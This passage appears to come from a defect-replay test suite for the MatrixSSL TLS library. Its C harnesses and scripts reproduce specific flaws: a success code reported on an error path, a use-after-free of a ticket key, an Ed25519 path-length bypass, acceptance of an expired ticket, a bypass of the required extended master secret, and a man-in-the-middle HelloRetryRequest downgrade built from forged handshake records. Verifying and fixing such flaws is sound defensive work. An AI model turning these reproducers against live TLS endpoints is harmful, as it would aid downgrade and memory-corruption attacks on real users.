    if (s.appLen > before) { printf("DEFECT: a replayed application record was delivered a second time\n"); return 1; }
    printf("OK: replay rejected\n");
    return 0;
}
