/* Triage replay for C15 (F11): the server receives the client's final flight (ChangeCipherSpec + Finished) and, in the
   same read, a record that fails to decrypt.  It queues its own CCS + Finished and then a fatal alert
   (BFLAG_CLOSE_AFTER_SENT).  When the application reports the bytes as sent, matrixSslSentData first selects
   MATRIXSSL_REQUEST_CLOSE and then overwrites it with MATRIXSSL_HANDSHAKE_COMPLETE: an error path reports success.
   exit 1: HANDSHAKE_COMPLETE reported for a session that has just sent a fatal alert. */
#include "harness.h"
#include "matrixssl/matrixssllib.h"
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char w[1 << 16], fl[1 << 16];
    psCipher16_t suite = 0x003c;
    unsigned char *buf;
    int n, i, room, fin = 0;
    int32 rc; unsigned char *pt; uint32 ptLen;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_2) < 0 || h_new_client(&c, SSL_FLAGS_TLS_1_2, &suite, 1, h_certCbAllowAll) < 0) return 2;
    for (i = 0; i < 10; i++)
    {
        n = h_drain(&c, w, sizeof(w));
        if (n > 0 && (c.ssl->flags & SSL_FLAGS_WRITE_SECURE)) { memcpy(fl, w, n); fin = n; break; }   /* client's final flight */
        if (n > 0) h_feed(&s, w, n);
        n = h_drain(&s, w, sizeof(w));
        if (n > 0) h_feed(&c, w, n);
    }
    if (!fin) { printf("did not reach the client's final flight\n"); return 2; }
    /* 1st read: the client's final flight; the application does not get around to sending the reply yet */
    room = matrixSslGetReadbuf(s.ssl, &buf);
    memcpy(buf, fl, fin);
    rc = matrixSslReceivedData(s.ssl, fin, &pt, &ptLen);
    printf("read 1 (client CCS + Finished) -> %d, hsState DONE=%d\n", rc, matrixSslHandshakeIsComplete(s.ssl));
    /* 2nd read: a record that cannot be decrypted */
    { unsigned char bad[53]; bad[0] = 23; bad[1] = 3; bad[2] = 3; bad[3] = 0; bad[4] = 48;
      for (i = 0; i < 48; i++) bad[5 + i] = (unsigned char) (i * 7 + 1);
      room = matrixSslGetReadbuf(s.ssl, &buf);
      memcpy(buf, bad, sizeof(bad));
      rc = matrixSslReceivedData(s.ssl, sizeof(bad), &pt, &ptLen); }
    printf("read 2 (undecryptable record) -> %d, flags: ERROR=%d, hsState DONE=%d\n", rc,
        !!(s.ssl->flags & SSL_FLAGS_ERROR), matrixSslHandshakeIsComplete(s.ssl));
    n = matrixSslGetOutdata(s.ssl, &buf);
    printf("server has %d bytes to send (its CCS + Finished + alert)\n", n);
    rc = matrixSslSentData(s.ssl, n);
    printf("matrixSslSentData -> %d (%s)\n", rc, rc == MATRIXSSL_HANDSHAKE_COMPLETE ? "MATRIXSSL_HANDSHAKE_COMPLETE" :
        rc == MATRIXSSL_REQUEST_CLOSE ? "MATRIXSSL_REQUEST_CLOSE" : "other");
    if (rc == MATRIXSSL_HANDSHAKE_COMPLETE && (s.ssl->flags & SSL_FLAGS_ERROR))
    {
        printf("DEFECT: success reported on a session that has just sent a fatal alert\n");
        return 1;
    }
    printf("OK\n");
    return 0;
}
