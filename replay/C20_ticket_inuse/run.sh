#!/bin/sh
# usage: run.sh [git rev of /repo | WORKTREE]   (default WORKTREE) - ASan replay of the inUse flag/count schedule
sh /verif/replay/C08_asan/build_asan.sh ${1:-WORKTREE} || exit 2
R=/tmp/asan_tree
clang -fsanitize=address -g -o /tmp/inuse_flag /verif/replay/C20_ticket_inuse/inuse_flag.c -I/verif/replay -I$R -I$R/core/config \
  -I$R/core/include -I$R/core/osdep/include -I$R/core/include/sfzcl $R/matrixssl/libssl_s.a $R/crypto/libcrypt_s.a $R/core/libcore_s.a -lpthread -w || exit 2
/tmp/inuse_flag
# before the fix (flag): AddressSanitizer heap-use-after-free in matrixUnlockSessionTicket, freed by matrixSslDeleteSessionTicketKey
# after (count): "[C] matrixSslDeleteSessionTicketKey rc=-1 (refused: key in use)"
