#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C20: psSessionTicketKeys_t.inUse is a flag, not a count.  getTicketKeys() pins the key (inUse = 1), releases
   g_sessTicketLock around the application's ticket callback and re-acquires it.  Schedule with three actors sharing one
   key set:
     A  server session: ClientHello with a ticket under key K -> inUse = 1, lock released, callback running
     B  server session: ClientHello with a ticket under K, runs to completion -> matrixUnlockSessionTicket ends with inUse = 0
     C  application thread: matrixSslDeleteSessionTicketKey(K) -> inUse == 0, the node is freed
     A  callback returns, lock re-taken, A computes the HMAC / AES key schedule from the freed node.
   The lock is not held inside the callback, so the schedule is replayed by running B and C from A's callback.
   Build against an AddressSanitizer build of the libraries (replay/C08_asan/build_asan.sh WORKTREE). */
static hPeer cA, sA, cB, sB;
static unsigned char K[16] = "ticketkeyname001";
static unsigned char helloB[4096]; static int helloBLen;
static int depth;
static int32 ticket_cb(void *keys, unsigned char name[16], short found)
{
    (void) name;
    if (depth++ == 0 && found)
    {
        int rc;
        printf("  [A] in the ticket callback (key cached, inUse pinned, g_sessTicketLock released)\n");
        rc = h_feed(&sB, helloB, helloBLen);          /* B: whole ClientHello processing incl. its own (nested) callback */
        printf("  [B] ClientHello with the same ticket processed: rc=%d resumed=%d\n", rc, !!(sB.ssl->flags & SSL_FLAGS_RESUMED));
        rc = matrixSslDeleteSessionTicketKey((sslKeys_t *) keys, K);
        printf("  [C] matrixSslDeleteSessionTicketKey rc=%d (%s)\n", rc, rc == 0 ? "node freed while A still holds it" : "refused: key in use");
    }
    return 0;
}
static int first_connection(hPeer *c, hPeer *s)
{
    sslSessOpts_t o;
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2; o.ticketResumption = 1;
    if (h_new_server(s, SSL_FLAGS_TLS_1_2) < 0) return -1;
    if (!c->sid) matrixSslNewSessionId(&c->sid, NULL);
    if (matrixSslNewClientSession(&c->ssl, c->keys, c->sid, NULL, 0, h_certCbAllowAll, NULL, NULL, NULL, &o) < 0) return -1;
    return h_handshake(c, s);
}
static int second_hello(hPeer *c, hPeer *s, unsigned char *out, int cap)
{
    sslSessOpts_t o;
    matrixSslDeleteSession(c->ssl); matrixSslDeleteSession(s->ssl);
    c->ssl = s->ssl = NULL; c->hsDone = s->hsDone = c->closed = s->closed = 0;
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2; o.ticketResumption = 1;
    if (h_new_server(s, SSL_FLAGS_TLS_1_2) < 0) return -1;
    if (matrixSslNewClientSession(&c->ssl, c->keys, c->sid, NULL, 0, h_certCbAllowAll, NULL, NULL, NULL, &o) < 0) return -1;
    return h_drain(c, out, cap);
}
int main(void)
{
    unsigned char sym[32] = {1,2,3}, mac[32] = {4,5,6}, K2[16] = "ticketkeyname002";
    static unsigned char helloA[4096]; int helloALen, rc;
    h_server_keys(&sA); sB.keys = sA.keys;               /* one key set shared by both server sessions */
    h_client_keys(&cA); h_client_keys(&cB);
    if (matrixSslLoadSessionTicketKeys(sA.keys, K, sym, 32, mac, 32) < 0) return 2;
    if (first_connection(&cA, &sA) || first_connection(&cB, &sB)) { printf("setup handshakes failed\n"); return 2; }
    helloALen = second_hello(&cA, &sA, helloA, sizeof(helloA));
    helloBLen = second_hello(&cB, &sB, helloB, sizeof(helloB));
    if (helloALen <= 0 || helloBLen <= 0) return 2;
    /* a second key so that the list does not become empty, and the callback */
    matrixSslLoadSessionTicketKeys(sA.keys, K2, sym, 32, mac, 32);
    matrixSslSetSessionTicketCallback(sA.keys, ticket_cb);
    printf("[A] ClientHello with the ticket arrives\n");
    rc = h_feed(&sA, helloA, helloALen);
    printf("[A] processed: rc=%d resumed=%d\n", rc, !!(sA.ssl->flags & SSL_FLAGS_RESUMED));
    printf("RESULT no memory error detected (run under AddressSanitizer to see the use after free)\n");
    return 0;
}
