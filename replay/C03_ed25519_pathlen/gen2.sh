set -e
D=/tmp/ed25519gen/p
mkdir -p $D
cat > $D/ext.cnf <<'X'
[ca]
basicConstraints=critical,CA:TRUE
keyUsage=critical,keyCertSign,cRLSign
[leaf]
basicConstraints=CA:FALSE
keyUsage=digitalSignature
X
for alg in ed25519 ec; do
  if [ $alg = ec ]; then G="-algorithm EC -pkeyopt ec_paramgen_curve:P-256"; else G="-algorithm ed25519"; fi
  openssl genpkey $G -out $D/$alg.R.key
  openssl req -new -x509 -key $D/$alg.R.key -subj "/CN=R-$alg" -days 3650 -out $D/$alg.R.pem -addext "basicConstraints=critical,CA:TRUE,pathlen:0" -addext "keyUsage=critical,keyCertSign"
  openssl genpkey $G -out $D/$alg.I.key
  openssl req -new -key $D/$alg.I.key -subj "/CN=I-$alg" -out $D/$alg.I.csr
  openssl x509 -req -in $D/$alg.I.csr -CA $D/$alg.R.pem -CAkey $D/$alg.R.key -CAcreateserial -days 3650 -extfile $D/ext.cnf -extensions ca -out $D/$alg.I.pem
  openssl genpkey $G -out $D/$alg.L.key
  openssl req -new -key $D/$alg.L.key -subj "/CN=leaf-$alg" -out $D/$alg.L.csr
  openssl x509 -req -in $D/$alg.L.csr -CA $D/$alg.I.pem -CAkey $D/$alg.I.key -CAcreateserial -days 3650 -extfile $D/ext.cnf -extensions leaf -out $D/$alg.L.pem
  for f in R I L; do openssl x509 -in $D/$alg.$f.pem -outform DER -out $D/$alg.$f.der; done
done
