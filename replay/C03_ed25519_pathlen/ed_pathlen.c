#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"
/* Triage replay for C03.R9 (second site): checkPathLenConstraint takes `sc and ic are the same CA` from equality of
   sigHash and then subtracts one from the path length.  For Ed25519 certificates sigHash is all zero (no pre-hash), so
   every pair compares equal and every Ed25519 chain is checked against a path length that is one too small.
   chain: leaf <- I <- R(pathlen:0), anchors [R], peer sends [leaf, I]: one intermediate under pathLenConstraint 0
   must be rejected.  The same shape with ECDSA P-256 certificates is the control.
   exit 1: the Ed25519 chain validates. */
static unsigned char *rd(const char *p, int *n) { FILE *f = fopen(p, "rb"); unsigned char *b = malloc(8192); if (!f) { perror(p); exit(2); } *n = fread(b, 1, 8192, f); fclose(f); return b; }
static int validate(const char *leaf, const char *inter, const char *anchor)
{
    int ln, in_, an; unsigned char *l = rd(leaf, &ln), *i = rd(inter, &in_), *a = rd(anchor, &an);
    psX509Cert_t *chain = NULL, *ic = NULL, *ca = NULL, *found = NULL;
    if (psX509ParseCert(NULL, l, ln, &chain, 0) < 0) { printf("leaf parse fail\n"); return -100; }
    if (psX509ParseCert(NULL, i, in_, &ic, 0) < 0) { printf("intermediate parse fail\n"); return -101; }
    chain->next = ic;
    if (psX509ParseCert(NULL, a, an, &ca, 0) < 0) { printf("anchor parse fail\n"); return -102; }
    int rc = matrixValidateCerts(NULL, chain, ca, NULL, &found, NULL, NULL);
    printf("  matrixValidateCerts rc=%d leaf.authStatus=%d inter.authStatus=%d\n", rc, chain->authStatus, ic->authStatus);
    return rc;
}
int main(void)
{
    int r1, r2;
    matrixSslOpen();
    printf("ECDSA P-256: leaf <- I <- R(pathlen:0)\n");
    r1 = validate("ec.L.der", "ec.I.der", "ec.R.der");
    printf("Ed25519:     leaf <- I <- R(pathlen:0)\n");
    r2 = validate("ed25519.L.der", "ed25519.I.der", "ed25519.R.der");
    printf("RESULT %s\n", (r1 < 0 && r2 >= 0) ? "VIOLATED (Ed25519 chain exceeds the path length constraint and validates)" : (r1 < 0 && r2 < 0 ? "ok" : "unexpected"));
    return (r2 >= 0);
}
