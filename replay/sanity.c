#include "harness.h"
/* sanity: full handshakes and data both ways still work (run after every fix: commit) */
static int run(int32 ver, const char *name)
{
    hPeer c = {0}, s = {0};
    unsigned char w[70000];
    int n, rc;
    if (h_new_server(&s, ver) < 0 || h_new_client(&c, ver, NULL, 0, h_certCb) < 0) return 2;
    rc = h_handshake(&c, &s);
    if (rc) { printf("[%s] handshake failed %d\n", name, rc); return 1; }
    n = h_send_app(&c, (unsigned char *) "ping", 4, w, sizeof(w)); h_feed(&s, w, n);
    n = h_send_app(&s, (unsigned char *) "pong!", 5, w, sizeof(w)); h_feed(&c, w, n);
    rc = !(s.appLen == 4 && !memcmp(s.app, "ping", 4) && c.appLen == 5 && !memcmp(c.app, "pong!", 5));
    printf("[%s] handshake ok, data %s\n", name, rc ? "MISMATCH" : "ok");
    return rc;
}
int main(void)
{
    int r = run(SSL_FLAGS_TLS_1_2, "tls12") | run(SSL_FLAGS_TLS_1_3, "tls13") | run(SSL_FLAGS_TLS_1_1, "tls11") | run(0, "default");
    printf("SANITY %s\n", r ? "FAILED" : "ok");
    return r;
}
