#define _GNU_SOURCE
#include <time.h>
#include <sys/time.h>
#include <dlfcn.h>
/* clock control: every time source the library may use is shifted by g_shift seconds */
static long g_shift = 0;
int clock_gettime(clockid_t id, struct timespec *ts)
{
    static int (*real)(clockid_t, struct timespec *);
    if (!real) real = dlsym(RTLD_NEXT, "clock_gettime");
    int r = real(id, ts); ts->tv_sec += g_shift; return r;
}
int gettimeofday(struct timeval *tv, void *tz)
{
    static int (*real)(struct timeval *, void *);
    if (!real) real = dlsym(RTLD_NEXT, "gettimeofday");
    int r = real(tv, tz); if (tv) tv->tv_sec += g_shift; return r;
}
#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C14.R4 finding (F12): a TLS 1.3 session ticket is accepted long after its ticket_lifetime (360 s). */
static int connect_once(hPeer *c, hPeer *s, const char *what)
{
    c->ssl = NULL; s->ssl = NULL; c->hsDone = s->hsDone = 0; c->closed = s->closed = 0;
    if (h_new_server(s, SSL_FLAGS_TLS_1_3) < 0 || h_new_client(c, SSL_FLAGS_TLS_1_3, NULL, 0, h_certCbAllowAll) < 0) return -9;
    int rc = h_handshake(c, s);
    /* drain post-handshake NewSessionTicket to the client */
    static unsigned char w[1<<16]; int n = h_drain(s, w, sizeof(w)); if (n > 0) h_feed(c, w, n);
    int resumed = matrixSslIsResumedSession(s->ssl);
    printf("%-28s handshake rc=%d server says resumed=%d\n", what, rc, resumed);
    matrixSslDeleteSession(c->ssl); matrixSslDeleteSession(s->ssl);
    return rc ? -1 : resumed;
}
int main(void)
{
    hPeer c = {0}, s = {0};
    unsigned char name[16] = "ticketkeyname001", sym[32] = {1,2,3}, mac[32] = {4,5,6};
    h_server_keys(&s); h_client_keys(&c);
    if (matrixSslLoadSessionTicketKeys(s.keys, name, sym, 32, mac, 32) < 0) { printf("ticket keys failed\n"); return 2; }
    int r0 = connect_once(&c, &s, "first connection:");
    int r1 = connect_once(&c, &s, "+0s, ticket offered:");
    g_shift = 3 * 3600;   /* three hours later; ticket_lifetime is 360 seconds */
    int r2 = connect_once(&c, &s, "+3h, same ticket:");
    printf("RESULT %s\n", (r1 == 1 && r2 == 1) ? "VIOLATED (expired TLS 1.3 ticket resumed)" : (r1 == 1 ? "ok" : "scenario not reached"));
    return r2 == 1;
}
