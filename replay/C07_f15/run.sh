#!/bin/sh
# usage: run.sh [repo]  - builds a scratch copy with a malicious chooseCS() for the server role, the client from [repo]
R=${1:-/repo}; T=/tmp/c07_mal15
rm -rf $T; mkdir -p $T
(cd $R && tar cf - --exclude='*.o' --exclude='*.a' --exclude='*.map' --exclude=.git Makefile common.mk makefiles core crypto matrixssl configs testkeys) | (cd $T && tar xf -)
python3 - $T/matrixssl/sslEncode.c <<'PY'
import sys
p = sys.argv[1]; s = open(p).read()
# replay only: the server "also supports TLS 1.3" (always writes the sentinel) ...
old = "    if (SUPP_VER(ssl, v_tls_1_3)) /* RFC, not draft. */\n"
assert s.count(old) == 1
s = s.replace(old, "    if (1) /* replay: malicious server */\n")
# ... and answers with no ServerHello extensions at all
old2 = "    psTracePrintHsMessageCreate(ssl, SSL_HS_SERVER_HELLO);\n"
assert s.count(old2) >= 1
s = s.replace(old2, old2 + "    Memset(&ssl->extFlags, 0, sizeof(ssl->extFlags));\n", 1)
open(p, "w").write(s)
PY
make -C $T libs > /tmp/c07_mal15_build.log 2>&1 || { tail /tmp/c07_mal15_build.log; exit 2; }
inc() { echo "-I/verif/replay -I$1 -I$1/core/config -I$1/core/include -I$1/core/osdep/include -I$1/core/include/sfzcl"; }
libs() { echo "$1/matrixssl/libssl_s.a $1/crypto/libcrypt_s.a $1/core/libcore_s.a -lpthread"; }
d=$(dirname $0)
cc -w -o /tmp/c07s15 $d/peer.c $(inc $T) $(libs $T) || exit 2
cc -w -o /tmp/c07c15 $d/peer.c $(inc $R) $(libs $R) || exit 2
/tmp/c07c15 client /tmp/c07s15; rc=$?
rm -rf $T
exit $rc
