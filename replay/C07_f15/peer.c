/* Triage replay for C07 (F15, required extended master secret): one binary, two roles.
     peer server <fd>   - a TLS 1.2 MatrixSSL server built by run.sh against a scratch copy that sends no ServerHello
                          extensions (= a peer without extended_master_secret support, RFC 7627)
     peer client        - unmodified library, TLS 1.2, sessOpts.extendedMasterSecret = 1 ("REQUIRE its use")
   exit 0: the client aborted; exit 1: handshake completed without extended master secret although it was required. */
#include <unistd.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include "harness.h"
#include "matrixssl/matrixssllib.h"

static int pump(hPeer *p, int fd)
{
    static unsigned char w[1 << 16];
    int n, i;
    for (i = 0; i < 60 && !p->closed; i++)
    {
        n = h_drain(p, w, sizeof(w));
        if (n > 0 && write(fd, w, n) != n) return -1;
        if (p->hsDone && matrixSslGetOutdata(p->ssl, NULL) <= 0) return 0;
        if (p->closed) break;
        n = read(fd, w, sizeof(w));
        if (n <= 0) return -1;
        h_feed(p, w, n);
    }
    return p->hsDone ? 0 : -1;
}

int main(int argc, char **argv)
{
    hPeer p = {0};
    alarm(20);
    if (argc >= 3 && !strcmp(argv[1], "server"))
    {
        int fd = atoi(argv[2]);
        if (h_new_server(&p, SSL_FLAGS_TLS_1_2) < 0) return 2;
        pump(&p, fd);
        return 0;
    }
    else
    {
        int sv[2], rc;
        char fdstr[16];
        psCipher16_t offered[2] = { 0x1301, 0x003c };
        pid_t pid;
        if (argc < 3) { fprintf(stderr, "usage: peer client <server-binary>\n"); return 2; }
        socketpair(AF_UNIX, SOCK_STREAM, 0, sv);
        pid = fork();
        if (pid == 0)
        {
            close(sv[0]);
            snprintf(fdstr, sizeof(fdstr), "%d", sv[1]);
            execl(argv[2], argv[2], "server", fdstr, (char *) NULL);
            _exit(3);
        }
        close(sv[1]);
        {
            sslSessOpts_t o;
            memset(&o, 0, sizeof(o));
            o.versionFlag = SSL_FLAGS_TLS_1_2;
            o.extendedMasterSecret = 1;      /* require */
            if (h_client_keys(&p) < 0) return 2;
            matrixSslNewSessionId(&p.sid, NULL);
            if (matrixSslNewClientSession(&p.ssl, p.keys, p.sid, offered + 1, 1, h_certCb, NULL, NULL, NULL, &o) < 0) return 2;
        }
        rc = pump(&p, sv[0]);
        close(sv[0]);
        waitpid(pid, NULL, 0);
        printf("client requires extended_master_secret; handshake %s; extended_master_secret in force: %d; last rc %d\n",
            (rc == 0 && p.hsDone) ? "COMPLETED" : "failed", (int) p.ssl->extFlags.extended_master_secret, p.lastRc);
        if (rc == 0 && p.hsDone && !p.ssl->extFlags.extended_master_secret)
        {
            printf("DEFECT: handshake completed without extended master secret although the client requires it\n");
            return 1;
        }
        printf("OK: peer without extended_master_secret refused\n");
        return 0;
    }
}
