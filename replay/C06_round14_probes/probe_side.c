/*
    probe_side.c - side observations: illegal message sequences that the
    UNMODIFIED library already completes (or silently tolerates).  None of
    them depends on the seeded change; the program only reports, its exit
    status is always 0.

    The peer is the hand written TLS 1.2 PSK endpoint of tk.h, i.e. somebody
    who knows the pre-shared key but does not keep to the protocol.
*/
#include "tk.h"

/******************************************************************************/
/* P1: TLS 1.3 HelloRetryRequest followed by a TLS 1.2 ServerHello */

static int find_ext(const unsigned char *ch, size_t n, int want,
    const unsigned char **data, size_t *len)
{
    size_t off = 2 + 32, l;

    off += 1 + ch[off];
    l = (ch[off] << 8) | ch[off + 1]; off += 2 + l;
    off += 1 + ch[off];
    if (off + 2 > n)
    {
        return 0;
    }
    off += 2;
    while (off + 4 <= n)
    {
        size_t et = (ch[off] << 8) | ch[off + 1];
        size_t el = (ch[off + 2] << 8) | ch[off + 3];
        if ((int) et == want)
        {
            *data = ch + off + 4;
            *len = el;
            return 1;
        }
        off += 4 + el;
    }
    return 0;
}

static unsigned char g_ch1[1024], g_hrr[300], g_ch2[1024], g_rest[4096];
static size_t g_ch1Len, g_hrrLen, g_ch2Len, g_restLen;

/* mask: 1 ClientHello1, 8 message_hash(ClientHello1), 2 HRR, 4 ClientHello2 */
static void hyp_hash(int mask, unsigned char out[32])
{
    psSha256_t h;
    unsigned char mh[4 + 32];

    psSha256PreInit(&h);
    psSha256Init(&h);
    if (mask & 1)
    {
        psSha256Update(&h, g_ch1, (uint32_t) g_ch1Len);
    }
    if (mask & 8)
    {
        psSha256_t h1;
        psSha256PreInit(&h1);
        psSha256Init(&h1);
        psSha256Update(&h1, g_ch1, (uint32_t) g_ch1Len);
        mh[0] = 254; mh[1] = 0; mh[2] = 0; mh[3] = 32;
        psSha256Final(&h1, mh + 4);
        psSha256Update(&h, mh, 36);
    }
    if (mask & 2)
    {
        psSha256Update(&h, g_hrr, (uint32_t) g_hrrLen);
    }
    if (mask & 4)
    {
        psSha256Update(&h, g_ch2, (uint32_t) g_ch2Len);
    }
    psSha256Update(&h, g_rest, (uint32_t) g_restLen);
    psSha256Final(&h, out);
}

static void rest_add(const unsigned char *p, size_t n)
{
    memcpy(g_rest + g_restLen, p, n);
    g_restLen += n;
}

static int p1_hrr_then_tls12(void)
{
    sslKeys_t *keys = tk_psk_keys();
    sslSessOpts_t opts;
    psCipher16_t suites[2] = { TLS_AES_128_GCM_SHA256, SUITE_PSK_AES128_SHA };
    peer_t cl;
    mini_t s;
    wire_t c2s, s2c;
    int rc, done, mask, found = -1;
    const unsigned char *ch, *sg, *ks;
    size_t chLen, sgLen, ksLen, i, j, n = 0, sidLen, l;
    int group = -1;
    unsigned char b[256], m[300], seed[15 + 32], vd[12];

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_3 | SSL_FLAGS_TLS_1_2;
    memset(&cl, 0, sizeof(cl));
    memset(&c2s, 0, sizeof(c2s));
    memset(&s2c, 0, sizeof(s2c));
    rc = matrixSslNewClientSession(&cl.ssl, keys, NULL, suites, 2, tk_cert_cb,
            NULL, NULL, NULL, &opts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        printf("  matrixSslNewClientSession %d\n", rc);
        return -1;
    }
    mini_init(&s, 1);
    peer_flush(&cl, &c2s);

    /* ClientHello 1 */
    g_ch1Len = c2s.len - 5;
    memcpy(g_ch1, c2s.b + 5, g_ch1Len);
    ch = g_ch1 + 4;
    chLen = g_ch1Len - 4;
    if (!find_ext(ch, chLen, 10, &sg, &sgLen) ||
        !find_ext(ch, chLen, 51, &ks, &ksLen))
    {
        printf("  ClientHello without supported_groups/key_share\n");
        return -1;
    }
    for (i = 2; i + 1 < sgLen && group < 0; i += 2)
    {
        int g = (sg[i] << 8) | sg[i + 1], have = 0;
        for (j = 2; j + 3 < ksLen; )
        {
            int kg = (ks[j] << 8) | ks[j + 1];
            size_t kl = (ks[j + 2] << 8) | ks[j + 3];
            if (kg == g)
            {
                have = 1;
            }
            j += 4 + kl;
        }
        if (!have)
        {
            group = g;
        }
    }
    if (group < 0)
    {
        printf("  no group to ask for\n");
        return -1;
    }
    mini_recv(&s, &c2s);        /* picks up the client random */

    /* HelloRetryRequest */
    sidLen = ch[34];
    b[n++] = 3; b[n++] = 3;
    memcpy(b + n, sha256OfHelloRetryRequest, 32); n += 32;
    b[n++] = (unsigned char) sidLen;
    memcpy(b + n, ch + 35, sidLen); n += sidLen;
    b[n++] = 0x13; b[n++] = 0x01;
    b[n++] = 0;
    b[n++] = 0; b[n++] = 12;
    b[n++] = 0; b[n++] = 43; b[n++] = 0; b[n++] = 2; b[n++] = 3; b[n++] = 4;
    b[n++] = 0; b[n++] = 51; b[n++] = 0; b[n++] = 2;
    b[n++] = (unsigned char) (group >> 8); b[n++] = (unsigned char) group;
    g_hrrLen = hs_msg(g_hrr, 2, b, n);
    mini_record(&s, &s2c, 22, g_hrr, g_hrrLen);
    peer_feed(&cl, s2c.b, s2c.len, &c2s);
    wire_clear(&s2c);
    printf("  HelloRetryRequest (TLS 1.3, group 0x%04x): the client answers "
        "with %u bytes, record type %d, handshake type %d\n", group,
        (unsigned) c2s.len, c2s.len ? c2s.b[0] : -1,
        c2s.len > 5 ? c2s.b[5] : -1);
    if (cl.failed || c2s.len < 9 || c2s.b[0] != 22 || c2s.b[5] != 1)
    {
        printf("  no second ClientHello\n");
        return 0;
    }

    /* ClientHello 2 */
    g_ch2Len = c2s.len - 5;
    memcpy(g_ch2, c2s.b + 5, g_ch2Len);
    mini_recv(&s, &c2s);

    /* TLS 1.2 ServerHello and ServerHelloDone */
    n = 0;
    b[n++] = 3; b[n++] = 3;
    memcpy(b + n, s.serverRandom, 32); n += 32;
    b[n++] = 0;
    b[n++] = SUITE_PSK_AES128_SHA >> 8; b[n++] = SUITE_PSK_AES128_SHA & 0xFF;
    b[n++] = 0;
    l = hs_msg(m, 2, b, n);
    rest_add(m, l);
    mini_record(&s, &s2c, 22, m, l);
    l = hs_msg(m, 14, NULL, 0);
    rest_add(m, l);
    mini_record(&s, &s2c, 22, m, l);
    peer_feed(&cl, s2c.b, s2c.len, &c2s);
    wire_clear(&s2c);
    mini_keys(&s, PSK_HEADER_TABLE[0].key, 16);
    if (c2s.len > 5 && c2s.b[0] == 22 && c2s.b[5] == 16)
    {
        l = (c2s.b[3] << 8) | c2s.b[4];
        rest_add(c2s.b + 5, l);         /* ClientKeyExchange */
    }
    if (mini_recv(&s, &c2s) < 0 || s.gotAlert || !s.gotFinished)
    {
        printf("  the client answered the TLS 1.2 ServerHello with alert %d\n",
            s.alertDesc);
        return 0;
    }
    printf("  TLS 1.2 ServerHello + ServerHelloDone: no alert, the client "
        "sends ClientKeyExchange, ChangeCipherSpec, Finished\n");
    for (mask = 1; mask < 16 && found < 0; mask++)
    {
        memcpy(seed, "client finished", 15);
        hyp_hash(mask, seed + 15);
        prf2(s.master, 48, seed, 47, vd, 12, CRYPTO_FLAGS_SHA2);
        if (memcmp(vd, s.lastFinished, 12) == 0)
        {
            found = mask;
        }
    }
    if (found < 0)
    {
        printf("  could not reproduce the client's transcript\n");
        return 0;
    }
    printf("  the client's Finished covers:%s%s%s%s, ServerHello, "
        "ServerHelloDone, ClientKeyExchange\n",
        (found & 1) ? " ClientHello1" : "",
        (found & 8) ? " message_hash(ClientHello1)" : "",
        (found & 2) ? " HelloRetryRequest" : "",
        (found & 4) ? " ClientHello2" : "");
    l = hs_msg(m, 20, s.lastFinished, 12);
    rest_add(m, l);
    memcpy(seed, "server finished", 15);
    hyp_hash(found, seed + 15);
    prf2(s.master, 48, seed, 47, vd, 12, CRYPTO_FLAGS_SHA2);
    mini_send_ccs(&s, &s2c);
    l = hs_msg(m, 20, vd, 12);
    mini_record(&s, &s2c, 22, m, l);
    peer_feed(&cl, s2c.b, s2c.len, &c2s);
    mini_recv(&s, &c2s);
    done = cl.complete && !cl.failed && !s.gotAlert;
    printf("  ChangeCipherSpec + Finished over that transcript: client %s\n",
        done ? "COMPLETED the handshake" : "refused");
    matrixSslDeleteSession(cl.ssl);
    matrixSslDeleteKeys(keys);
    return done;
}


/* P1b: the same with two honest MatrixSSL peers and a man in the middle who
   only injects the HelloRetryRequest and drops the second ClientHello */
static int p1b_mitm(void)
{
    sslKeys_t *ckeys = tk_psk_keys(), *skeys = tk_psk_keys();
    sslSessOpts_t copts, sopts;
    psCipher16_t suites[2] = { TLS_AES_128_GCM_SHA256, SUITE_PSK_AES128_SHA };
    peer_t cl, sv;
    wire_t c2s, s2c, ch1, junk;
    const unsigned char *ch, *sg, *ks;
    size_t chLen, sgLen, ksLen, i, j, n = 0, sidLen;
    int group = -1, rc, round;
    unsigned char b[256], m[300];
    size_t l;

    memset(&copts, 0, sizeof(copts));
    memset(&sopts, 0, sizeof(sopts));
    copts.versionFlag = SSL_FLAGS_TLS_1_3 | SSL_FLAGS_TLS_1_2;
    sopts.versionFlag = SSL_FLAGS_TLS_1_2;
    memset(&cl, 0, sizeof(cl));
    memset(&sv, 0, sizeof(sv));
    memset(&c2s, 0, sizeof(c2s));
    memset(&s2c, 0, sizeof(s2c));
    memset(&ch1, 0, sizeof(ch1));
    memset(&junk, 0, sizeof(junk));
    rc = matrixSslNewClientSession(&cl.ssl, ckeys, NULL, suites, 2,
            tk_cert_cb, NULL, NULL, NULL, &copts);
    if (rc != MATRIXSSL_REQUEST_SEND ||
        matrixSslNewServerSession(&sv.ssl, skeys, NULL, &sopts) < 0)
    {
        printf("  session set-up failed\n");
        return -1;
    }
    peer_flush(&cl, &ch1);              /* ClientHello 1: held back */
    ch = ch1.b + 9;
    chLen = ch1.len - 9;
    if (!find_ext(ch, chLen, 10, &sg, &sgLen) ||
        !find_ext(ch, chLen, 51, &ks, &ksLen))
    {
        return -1;
    }
    for (i = 2; i + 1 < sgLen && group < 0; i += 2)
    {
        int g = (sg[i] << 8) | sg[i + 1], have = 0;
        for (j = 2; j + 3 < ksLen; )
        {
            int kg = (ks[j] << 8) | ks[j + 1];
            size_t kl = (ks[j + 2] << 8) | ks[j + 3];
            if (kg == g)
            {
                have = 1;
            }
            j += 4 + kl;
        }
        if (!have)
        {
            group = g;
        }
    }
    sidLen = ch[34];
    b[n++] = 3; b[n++] = 3;
    memcpy(b + n, sha256OfHelloRetryRequest, 32); n += 32;
    b[n++] = (unsigned char) sidLen;
    memcpy(b + n, ch + 35, sidLen); n += sidLen;
    b[n++] = 0x13; b[n++] = 0x01;
    b[n++] = 0;
    b[n++] = 0; b[n++] = 12;
